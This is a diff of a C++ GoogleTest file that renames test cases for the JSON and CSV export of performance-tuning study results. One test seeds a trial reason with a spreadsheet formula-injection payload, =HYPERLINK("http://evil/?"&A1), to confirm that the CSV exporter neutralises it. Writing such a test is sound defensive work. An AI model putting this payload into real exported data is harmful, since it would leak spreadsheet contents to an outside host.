@@ -23,12 +23,12 @@ std::vector<std::string> members(const Json& object)
     return names;
 }
 
-TEST(StudyDocument, isTheContractToTheLetter)
+TEST(StudyDocument, IsTheContractToTheLetter)
 {
     expectGolden("study.json", studyDocument(test::sampleStudy()).dump(2) + "\n");
 }
 
-TEST(StudyDocument, saysWhichTrialsTheWorkspaceHasLost)
+TEST(StudyDocument, SaysWhichTrialsTheWorkspaceHasLost)
 {
     model::StudySnapshot snapshot = test::sampleStudy();
     EXPECT_TRUE(losses(snapshot).empty());
@@ -48,7 +48,7 @@ TEST(StudyDocument, saysWhichTrialsTheWorkspaceHasLost)
     EXPECT_EQ(d["trials"][0]["reason"], "damaged: " + snapshot.trials[0].reason.text);
 }
 
-TEST(StudyDocument, hasExactlyTheMembersThatScriptsRelyOn)
+TEST(StudyDocument, HasExactlyTheMembersThatScriptsRelyOn)
 {
     const Json d = studyDocument(test::sampleStudy());
     EXPECT_EQ(members(d), (std::vector<std::string>{"schema", "id", "model", "goal", "environment", "trials",
@@ -75,7 +75,7 @@ TEST(StudyDocument, hasExactlyTheMembersThatScriptsRelyOn)
     EXPECT_EQ(members(t["applied"][0]), (std::vector<std::string>{"switch", "state", "evidence"}));
 }
 
-TEST(StudyDocument, recommendedPointsAtTrialsOfTheDocument)
+TEST(StudyDocument, RecommendedPointsAtTrialsOfTheDocument)
 {
     const Json d = studyDocument(test::sampleStudy());
     const auto has = [&](const Json& id) {
@@ -86,7 +86,7 @@ TEST(StudyDocument, recommendedPointsAtTrialsOfTheDocument)
     EXPECT_TRUE(has(d["recommended"]["runner_up"]["trial"]));
 }
 
-TEST(StudyDocument, withoutARecommendationSaysNull)
+TEST(StudyDocument, WithoutARecommendationSaysNull)
 {
     EXPECT_TRUE(studyDocument(test::interruptedStudy())["recommended"].is_null());
     auto s = test::sampleStudy();
@@ -96,7 +96,7 @@ TEST(StudyDocument, withoutARecommendationSaysNull)
     EXPECT_TRUE(studyDocument(s)["recommended"]["runner_up"].is_null());
 }
 
-TEST(TrialDocument, whatDoesNotApplyIsNull)
+TEST(TrialDocument, WhatDoesNotApplyIsNull)
 {
     auto s = test::sampleStudy();
     const Json failed = trialDocument(s.trials[5]);
@@ -113,7 +113,7 @@ TEST(TrialDocument, whatDoesNotApplyIsNull)
     EXPECT_TRUE(trialDocument(s.trials[0])["quality"].is_null());
 }
 
-TEST(TrialDocument, withoutAnIntervalItsEndsAreNull)
+TEST(TrialDocument, WithoutAnIntervalItsEndsAreNull)
 {
     auto s = test::sampleStudy();
     model::Measurement& m = s.trials[0].measurement;
@@ -129,7 +129,7 @@ TEST(TrialDocument, withoutAnIntervalItsEndsAreNull)
     EXPECT_TRUE(study["recommended"]["speedup"]["value"].is_null()) << "a ratio without an interval is no number";
 }
 
-TEST(StudyDocument, saysThatARecommendationIsUnconfirmedAndWhatToDo)
+TEST(StudyDocument, SaysThatARecommendationIsUnconfirmedAndWhatToDo)
 {
     auto s = test::sampleStudy();
     EXPECT_EQ(studyDocument(s)["recommended"]["confirmed"], true);
@@ -144,26 +144,26 @@ TEST(StudyDocument, saysThatARecommendationIsUnconfirmedAndWhatToDo)
         "difference. `apertune tune --resume s3 --budget 2m` confirms it.");
 }
 
-TEST(TrialDocument, aConfigurationThatWaitsIsCancelledWithTheWayToGoOn)
+TEST(TrialDocument, AConfigurationThatWaitsIsCancelledWithTheWayToGoOn)
 {
     const Json waiting = trialDocument(test::interruptedStudy().trials[4]);
     EXPECT_EQ(waiting["state"], "cancelled");
     EXPECT_NE(waiting["reason"].get<std::string>().find("apertune tune --resume s3"), std::string::npos);
 }
 
-TEST(TrialDocument, aNumberThatIsNoneIsWrittenAsNull)
+TEST(TrialDocument, ANumberThatIsNoneIsWrittenAsNull)
 {
     auto s = test::sampleStudy();
     s.trials[0].measurement.quality->maxRel = std::numeric_limits<double>::infinity();
     EXPECT_TRUE(Json::parse(trialDocument(s.trials[0]).dump())["quality"]["max_rel"].is_null());
 }
 
-TEST(StudyCsv, hasARowForEveryTrial)
+TEST(StudyCsv, HasARowForEveryTrial)
 {
     expectGolden("study.csv", studyCsv(test::sampleStudy()));
 }
 
-TEST(StudyCsv, theRangeOfAFewSamplesIsNotWrittenAsAnInterval)
+TEST(StudyCsv, TheRangeOfAFewSamplesIsNotWrittenAsAnInterval)
 {
     model::StudySnapshot s = test::sampleStudy();
     model::Trial& trial = s.trials[0];
@@ -174,7 +174,7 @@ TEST(StudyCsv, theRangeOfAFewSamplesIsNotWrittenAsAnInterval)
     EXPECT_NE(row().find(",5,,,0,"), std::string::npos) << row();
 }
 
-TEST(StudyCsv, textFromAStudyIsNoFormulaToASpreadsheet)
+TEST(StudyCsv, TextFromAStudyIsNoFormulaToASpreadsheet)
 {
     auto study = test::sampleStudy();
     study.trials[5].reason.text = "=HYPERLINK(\"http://evil/?\"&A1)";
@@ -184,7 +184,7 @@ TEST(StudyCsv, textFromAStudyIsNoFormulaToASpreadsheet)
     EXPECT_NE(csv.find(",'@SUM(1),"), std::string::npos);
 }
 
-TEST(StudyCsv, everyRowHasTheFieldsOfTheHeader)
+TEST(StudyCsv, EveryRowHasTheFieldsOfTheHeader)
 {
     const std::string csv = studyCsv(test::sampleStudy());
     std::vector<int> fields{1};
